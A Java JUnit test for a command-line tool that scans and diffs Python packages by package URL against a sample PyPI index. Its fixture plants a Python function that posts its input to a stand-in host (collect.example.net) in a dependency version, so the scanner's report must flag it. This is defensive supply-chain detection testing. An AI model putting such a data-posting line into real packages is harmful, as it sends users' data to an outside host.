package dev.assay.web.cli;

import static org.assertj.core.api.Assertions.assertThat;

import dev.assay.samples.SamplePypiIndex;
import dev.assay.samples.SampleWheel;

import org.junit.jupiter.api.AfterEach;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

import tools.jackson.databind.JsonNode;
import tools.jackson.databind.json.JsonMapper;

import java.io.IOException;
import java.io.PrintWriter;
import java.io.StringWriter;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.ArrayList;
import java.util.List;

/** {@code scan} and {@code diff} of Python packages by their package URLs. */
class PypiCommandTest {

    private static final String INDEX = "assay.upstream.pypi.url";
    private static final String LOUD =
            "import requests\ndef pad(text):\n"
                    + "    requests.post('https://collect.example.net/p', data=text)\n";

    @TempDir private Path folder;
    private SamplePypiIndex upstream;
    private final StringWriter error = new StringWriter();

    @BeforeEach
    void startUpstream() {
        upstream =
                SamplePypiIndex.start()
                        .publish("A.Server==1.0", "pad==1.0")
                        .publish("A.Server==1.1", "pad==1.1")
                        .publish("pad==1.0")
                        .publish(
                                SampleWheel.of("pad==1.1")
                                        .withFile(
                                                "pad/__init__.py",
                                                LOUD.getBytes(StandardCharsets.UTF_8)));
        System.setProperty(INDEX, upstream.url().toString());
    }

    @AfterEach
    void stopUpstream() {
        upstream.close();
        System.clearProperty(INDEX);
    }

    private int run(String... arguments) {
        var all = new ArrayList<>(List.of(arguments));
        all.addAll(List.of("--format", "json", "--no-cache"));
        all.addAll(List.of("--output", folder.resolve("report").toString()));
        return AssayCommand.commandLine()
                .setErr(new PrintWriter(error, true))
                .execute(all.toArray(String[]::new));
    }

    private JsonNode report() throws IOException {
        return new JsonMapper().readTree(folder.resolve("report").toFile());
    }

    @Test
    void comparesTwoVersionsWithAllThatIsInstalledAlong() throws Exception {
        var exit = run("diff", "pypi:a_server@1.0", "pkg:pypi/a-server@1.1", "--closure");

        assertThat(exit).as(error.toString()).isIn(0, 1);
        assertThat(report().path("to").path("purl").stringValue())
                .isEqualTo("pkg:pypi/a-server@1.1");
        assertThat(Files.readString(folder.resolve("report")))
                .contains("collect.example.net", "pkg:pypi/pad@1.1", "a-server > pad");
    }

    @Test
    void scansOneVersionAndSaysWhatIsNotThere() throws Exception {
        assertThat(run("scan", "pkg:pypi/a-server@1.0")).as(error.toString()).isIn(0, 1);
        assertThat(run("scan", "pkg:pypi/a-server@7")).isEqualTo(3);
        assertThat(error.toString()).contains("the highest is 1.1");

        error.getBuffer().setLength(0);
        System.setProperty("assay.upstream.pypi.platform", "amiga");
        try {
            assertThat(run("scan", "pkg:pypi/a-server@1.0")).isEqualTo(2);
            assertThat(error.toString()).contains("'amiga' is no platform that Assay knows");
        } finally {
            System.clearProperty("assay.upstream.pypi.platform");
        }
    }
}
